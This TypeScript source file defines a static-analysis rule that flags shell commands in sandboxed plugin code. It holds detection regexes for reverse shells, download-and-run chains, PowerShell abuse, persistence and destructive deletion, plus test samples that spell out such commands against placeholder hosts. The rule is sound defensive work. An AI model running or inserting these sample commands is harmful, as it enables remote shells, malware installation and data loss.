import type { CodeRule } from '../rule.ts';
import { plainKey, unwrapped, type Node } from '../syntax.ts';

/** Commands that serve an attack wherever they stand. */
const attacks: readonly { pattern: RegExp; what: string }[] = [
  { pattern: /\b(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES)\s{0,3}=/, what: 'puts a library into another program' },
  {
    pattern:
      /\b(?:rundll32|regsvr32|mshta|mavinject|cmstp|odbcconf|installutil|regasm|regsvcs)(?:\.exe)?\s{1,5}[^\s.,;:]|\bcertutil(?:\.exe)?\s{1,5}-(?:urlcache|decode)|\bbitsadmin(?:\.exe)?\s{1,5}\/transfer/i,
    what: 'lets a program of the system run other code',
  },
  {
    pattern:
      /\bpowershell(?:\.exe)?\b[^\n]{0,300}(?:-e(?:nc|ncodedcommand)?\s{1,5}[\w+/]{16}|-ep?\s{1,5}bypass|executionpolicy\s{1,5}bypass|-w(?:indowstyle)?\s{1,5}hidden|\biex\b|\biwr\b|invoke-webrequest)|\bNet\.WebClient\s{0,5}\)\s{0,5}\.\s{0,5}Download(?:File|String|Data)|\bInvoke-Expression\b/i,
    what: 'has PowerShell fetch or hide code',
  },
  {
    pattern:
      /\b(?:curl|wget)\s[^\n|]{0,300}\|\s{0,5}(?:sudo\s{1,5})?(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby)\b|\b(?:curl|wget)\s[^\n]{0,300}(?:&&|;)[^\n]{0,200}(?:\bchmod\s{1,5}[+\d]|\.\/)/i,
    what: 'fetches a program and runs it',
  },
  {
    pattern:
      /\/dev\/(?:tcp|udp)\/[\w.$]|\bn(?:c|cat)\s[^\n]{0,200}-[a-z]{0,3}[ec]\s{1,5}\S{0,40}(?:sh|cmd)\b|\bmkfifo\s[^\n]{0,200}\bnc\s/,
    what: 'opens a shell to somebody else',
  },
  {
    pattern:
      /\brm\s{1,5}-[a-z]{0,3}r[a-z]{0,3}\s{1,5}(?:--no-preserve-root\s{1,5})?["']?(?:\/(?:\*|home\b|Users\b|etc\b|var\b|usr\b|["']?\s{0,5}$)|~\/?(?:\s|$|\*)|\$HOME\b)|\bdd\s{1,5}if=\/dev\/(?:zero|u?random)\s|\bmkfs\.\w{1,10}\s{1,5}\/dev\/|\bvssadmin(?:\.exe)?\s{1,5}delete\s|:\(\)\s{0,3}\{\s{0,3}:\s{0,3}\|\s{0,3}:/,
    what: 'destroys what the machine holds',
  },
  {
    pattern:
      /\bschtasks(?:\.exe)?\s{1,5}\/create\b|\|\s{0,5}crontab\b|\bcrontab\s{1,5}-(?!l\b)|\breg(?:\.exe)?\s{1,5}add\s|\\CurrentVersion\\Run(?:Once)?\b|\blaunchctl\s{1,5}(?:load|bootstrap)\s/i,
    what: 'has the machine run something again and again',
  },
];
/** Commands that people also write about: they count where something runs them. */
const whenRun =
  /^\s{0,9}(?:sudo\s{1,5})?(?:curl|wget|powershell|pwsh|cmd(?:\.exe)?\s{1,5}\/c|(?:ba|z)?sh\s{1,5}-c|chmod\s{1,5}[+\d]|npm\s{1,5}(?:publish|i|install|adduser|token)|pip3?\s{1,5}install|whoami|hostname|ifconfig|ipconfig|rm\s{1,5}-|cat\s{1,5}[/~])\b/i;
/** Programs that run what they are given, named alone: what they run stands in the next argument. */
const interpreters =
  /^(?:\S{0,80}[\\/])?(?:rundll32|regsvr32|mshta|powershell|pwsh|cmd|wscript|cscript|(?:ba|z|da|k)?sh)(?:\.exe)?$/i;
/** Calls of Windows with which one program changes another. */
const intrusive =
  /^(?:WriteProcessMemory|CreateRemoteThread(?:Ex)?|LoadLibrary(?:Ex)?[AW]|VirtualAllocEx|QueueUserAPC|NtCreateThreadEx|SetWindowsHookEx[AW]?|GetAsyncKeyState)$/;
const runners = /^(?:exec|spawn|execFile|execa|shell|system)(?:Sync)?$/;
const commandChars = 20_000;

export const shellCommandRule: CodeRule = {
  kind: 'code',
  id: 'shell-command',
  severity: 'high',
  explanation:
    'The text is a command for the shell of a server. The sandbox has none; whoever writes such commands tries to be run elsewhere, or waits for a way out.',
  remedy: 'Remove the command. A plugin works with ctx alone.',
  samples: {
    bad: [
      'run("LD_PRELOAD=./lib.so /usr/bin/env");',
      'const line = "rundll32 helper.dat,Start";',
      'child_process.exec("powershell -NoProfile -Command \\"(New-Object Net.WebClient).DownloadString(\'http://example.org/a\')\\"");',
      'const line = "powershell -w hidden -enc ZQBjAGgAbwAgADEAMgAzADQA";',
      'const setup = "wget -qO- https://example.org/setup | bash";',
      'execSync(`curl -o a https://example.org/a && chmod +x a`);',
      'const shell = "bash -i >& /dev/tcp/192.0.2.1/443 0>&1";',
      'spawn("nc 192.0.2.1 443 -e /bin/sh");',
      'system("rm -rf ~/");',
      'execSync("rm -rf --no-preserve-root /");',
      'const again = "schtasks /create /tn update /tr a.exe";',
      'const entry = "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run";',
      'execSync("npm publish --tag next");',
      'execSync("whoami");',
      'exec(atob("Y3VybCBodHRwczovL2V4YW1wbGUub3Jn"));',
      'spawn("C:\\\\Windows\\\\System32\\\\rundll32.exe", ["helper.dat,Start"]);',
      'spawn("/bin/sh", ["-c", text]);',
      'start("C:\\\\tools\\\\view.exe", ["C:\\\\tools\\\\extra.dll"]);',
      'inject("/usr/bin/env", "/tmp/extra.so");',
      'api.WriteProcessMemory(handle, at, bytes);',
      'const command = "curl " + "https://example.org/a" + " | sh";',
    ],
    good: [
      'const match = pattern.exec("curl https://example.org");',
      'const help = "Install it with npm install, then run npm publish.";',
      'spawn("ls", ["-l"]);',
      'const words = ["curl", "wget", "sh"];',
      'const agent = /curl|wget|powershell/i;',
      'load("./extra.dll");',
      'const shells = ["/bin/sh", "cmd.exe"];',
      'const about = "PowerShell, bash and curl are known user agents";',
      'const note = "rm -rf node_modules";',
      'const dll = "The name rundll32, as some call it";',
    ],
  },
  check(file, report) {
    for (const { text, node } of file.texts()) {
      if (text.length < 2 || text.length > commandChars) continue;
      const attack = attacks.find(({ pattern }) => pattern.test(text));
      if (attack !== undefined) {
        report(node, {
          message: `Contains a command that ${attack.what}.`,
          severity: isRun(node) ? 'high' : 'medium',
          confidence: 0.8,
        });
      } else if (library.test(text) && standsBesideProgram(node)) {
        report(node, {
          message: 'Names a library beside the program that is to load it.',
          severity: 'medium',
          confidence: 0.7,
        });
      } else if ((whenRun.test(text) || interpreters.test(text)) && isRun(node)) {
        report(node, { message: `Runs the command "${text.trim().slice(0, 60)}".`, confidence: 0.9 });
      }
    }
    for (const node of file.tree.nodes('MemberExpression')) {
      const key = plainKey(node.property, node.computed);
      if (key !== null && intrusive.test(key))
        report(node, { message: `Names ${key}, with which one program changes another.`, confidence: 0.8 });
    }
  },
};

const library = /\.(?:dll|so|dylib)$/i;
const program = /\.exe\b|\/s?bin\/\w/i;

/** `start('view.exe', ['extra.dll'])` */
function standsBesideProgram(node: Node): boolean {
  const around = node.parent?.type === 'ArrayExpression' ? node.parent.parent : node.parent;
  if (around?.type !== 'CallExpression') return false;
  return around.arguments.some((arg) => arg !== node && arg.type === 'Literal' && program.test(String(arg.value)));
}

/** Whether the text, or the sum it is part of, is the first argument of what runs commands; `pattern.exec(…)` is not. */
function isRun(node: Node): boolean {
  let at = node;
  while (at.parent?.type === 'BinaryExpression' || at.parent?.type === 'TemplateLiteral') at = at.parent;
  const { parent } = at;
  if (parent?.type !== 'CallExpression' || parent.arguments[0] !== at) return false;
  const callee = unwrapped(parent.callee);
  if (callee.type === 'Identifier') return runners.test(callee.name);
  if (callee.type !== 'MemberExpression') return false;
  const method = plainKey(callee.property, callee.computed);
  if (method === null || !runners.test(method)) return false;
  const { object } = callee;
  return (
    method !== 'exec' || (object.type === 'Identifier' && /^(?:child_?process|cp|shell(?:js)?)$/i.test(object.name))
  );
}
